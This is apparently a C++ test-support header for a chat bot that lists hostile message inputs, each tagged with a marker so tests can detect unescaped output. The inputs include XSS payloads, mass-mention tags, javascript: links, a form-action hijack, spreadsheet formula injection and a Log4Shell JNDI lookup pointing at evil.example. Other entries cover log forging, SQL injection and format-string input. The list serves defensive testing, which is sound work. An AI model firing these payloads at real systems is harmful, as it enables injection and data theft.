// What somebody may type who means harm, and what would show that it worked.
#pragma once

#include <string>
#include <vector>

namespace xiebot::support {

// Nobody whom the bot has a reason to mention is ou_luren or u_luren.
// Stands in each of them, so that they are found again.
inline constexpr char kHarm[] = "EVIL7";

[[nodiscard]] inline std::vector<std::string> hostile_texts() {
  std::vector<std::string> texts = {
      "<at id=all></at>",
      "<at user_id=\"all\">所有人</at>",
      "<at id=ou_luren></at>",
      "@所有人 @all @13800000000",
      "@u_luren",
      "<a atId=u_luren>路人</a>",
      "[点我](javascript:alert(1))",
      "[点我](https://evil.example)",
      "![](https://evil.example/x.png)",
      "https://evil.example/?x",
      "dtmd://dingtalkclient/sendMessage?content=1",
      "**粗** _斜_ ~~删~~ `码`",
      "<font color='red'>红</font>",
      "<text_tag color='red'>标</text_tag>",
      "# 标题",
      "> 引用",
      "- 项\n1. 项\n---\n|表|格|",
      "<script>alert(1)</script>",
      "\"'><img src=x onerror=alert(1)>",
      "</textarea></form><form action=https://evil.example>",
      "&lt;at id=all&gt;&#60;at id=all&#62;",
      ":DONE: \\[x\\](y)",
      "=HYPERLINK(\"https://evil.example\",\"x\")",
      "+1+1",
      "-1+1",
      "@SUM(1)",
      "＝1+1",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "a,\"b\"\r\n=1+1",
      "x\n2026-11-23T10:00:00.000Z error  forged",
      "\x1b[31m红\x1b[0m",
      "\u202e反\u200b零\ufeff",
      "\u2028行\u2029段",
      "${jndi:ldap://evil.example} %s%n {} {0}",
      "'; DROP TABLE entries; --",
  };
  texts.emplace_back("零\0字节", 10);
  for (std::string& text : texts) text += " 3个";
  for (std::string& text : texts) text += kHarm;
  return texts;
}

}  // namespace xiebot::support
